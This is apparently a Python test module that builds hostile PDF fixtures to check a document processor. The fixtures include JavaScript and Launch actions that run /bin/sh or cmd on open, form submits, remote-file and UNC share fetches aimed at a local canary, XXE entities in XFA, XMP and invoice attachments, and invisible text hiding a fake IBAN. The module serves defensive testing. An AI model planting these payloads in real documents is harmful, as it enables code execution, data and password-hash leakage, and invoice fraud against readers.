"""PDFs that act, reach outside, or hide words."""

import io
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.attacks.pdf_writing import (
    ROWS,
)
from tests.attacks.registry import CANARY, Attack
from tests.hostile_files import text_pdf


def live(change: Callable[[pikepdf.Pdf, str], None], port: int) -> bytes:
    """A page of text, and what would act."""
    with pikepdf.open(io.BytesIO(text_pdf([ROWS]))) as document:
        change(document, CANARY.format(port=port))
        out = io.BytesIO()
        document.save(out, static_id=True)
    return out.getvalue()


def opening(**entries: object) -> Callable[[pikepdf.Pdf, str], None]:
    def change(document: pikepdf.Pdf, canary: str) -> None:
        filled = {
            key: String(value.format(canary)) if isinstance(value, str) and "{}" in value else value
            for key, value in entries.items()
        }
        document.Root.OpenAction = Dictionary(**filled)

    return change


def _note(document: pikepdf.Pdf, **entries: object) -> None:
    pinned = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 99, 99]), **entries)
    document.pages[0].obj.Annots = Array([document.make_indirect(pinned)])


def sending(document: pikepdf.Pdf, canary: str) -> None:
    _note(document, Subtype=Name.Widget, A=Dictionary(S=Name.SubmitForm, F=String(f"{canary}/formulaire")))


def fetched(document: pikepdf.Pdf, canary: str) -> None:
    contents = document.make_stream(b"")
    contents.F, contents.FFilter = Dictionary(FS=Name.URL, F=String(f"{canary}/flux")), Name.FlateDecode
    document.pages[0].obj.Contents = contents


def with_xfa(document: pikepdf.Pdf, canary: str) -> None:
    form = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{canary}/xfa">]><xdp><a>&e;</a></xdp>'.encode()
    document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=document.make_stream(form))


def metadata(document: pikepdf.Pdf, canary: str) -> None:
    told = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{canary}/xmp">]><x>&e;</x>'.encode()
    stream = document.make_stream(told)
    stream.Type, stream.Subtype = Name.Metadata, Name.XML
    document.Root.Metadata = stream


def invoice_with_entities(document: pikepdf.Pdf, canary: str) -> None:
    told = f'<?xml version="1.0"?><!DOCTYPE x SYSTEM "{canary}/dtd"><CrossIndustryInvoice/>'
    document.attachments["factur-x.xml"] = told.encode()


def launched_from_a_page(document: pikepdf.Pdf, canary: str) -> None:
    order = Dictionary(S=Name.Launch, F=String("/bin/sh"), Win=Dictionary(F=String("cmd"), P=String(canary)))
    document.pages[0].obj.AA = Dictionary(O=order)


def film(document: pikepdf.Pdf, canary: str) -> None:
    _note(document, Subtype=Name.Screen, A=Dictionary(S=Name.Rendition, JS=String(f"fetch('{canary}')")))


def hidden_words(document: pikepdf.Pdf, _: str) -> None:
    """Words in white, of no size, and in the mode that shows nothing, under the words that are seen."""
    page = document.pages[0]
    hidden = (
        b"BT 1 1 1 rg /F1 11 Tf 60 500 Td (IBAN FR76 3000 6000 0112 3456 7890 189) Tj ET BT 3 Tr /F1 11 Tf "
    )
    page.contents_add(
        hidden + b"60 480 Td (Total TTC 99 999,00 euros) Tj ET BT 0 Tr /F1 0.01 Tf 60 460 Td (x) Tj ET"
    )


LIVE: list[Attack] = [
    Attack(
        "script.pdf",
        "a script when opened",
        lambda port: live(opening(S=Name.JavaScript, JS="app.launchURL('{}')"), port),
        "processed",
    ),
    Attack(
        "launch.pdf",
        "a program when opened",
        lambda port: live(opening(S=Name.Launch, F="/bin/touch", P="{}"), port),
        "processed",
    ),
    Attack(
        "launch-page.pdf", "a program when the page is shown", lambda port: live(launched_from_a_page, port)
    ),
    Attack(
        "uri.pdf", "an address when opened", lambda port: live(opening(S=Name.URI, URI="{}/ouvert"), port)
    ),
    Attack(
        "remote.pdf",
        "another file when opened",
        lambda port: live(opening(S=Name.GoToR, F="{}/autre.pdf", D=Array([0, Name.Fit])), port),
    ),
    Attack(
        "share.pdf",
        "a file of a share, which tells the password's hash",
        lambda port: live(opening(S=Name.GoToR, F="\\\\127.0.0.1@" + str(port) + "\\a.pdf"), port),
    ),
    Attack(
        "inside.pdf", "a file inside", lambda port: live(opening(S=Name.GoToE, T=Dictionary(R=Name.C)), port)
    ),
    Attack("submit.pdf", "a form that is sent", lambda port: live(sending, port)),
    Attack(
        "import.pdf",
        "a form filled from elsewhere",
        lambda port: live(opening(S=Name.ImportData, F="{}/d"), port),
    ),
    Attack("stream.pdf", "contents that are elsewhere", lambda port: live(fetched, port)),
    Attack("xfa.pdf", "a form of XML with entities", lambda port: live(with_xfa, port)),
    Attack("xmp.pdf", "metadata with entities", lambda port: live(metadata, port)),
    Attack("facturx.pdf", "an invoice with a DTD elsewhere", lambda port: live(invoice_with_entities, port)),
    Attack("film.pdf", "a film with a script", lambda port: live(film, port)),
    Attack("hidden.pdf", "words that nobody sees", lambda port: live(hidden_words, port), "processed"),
]
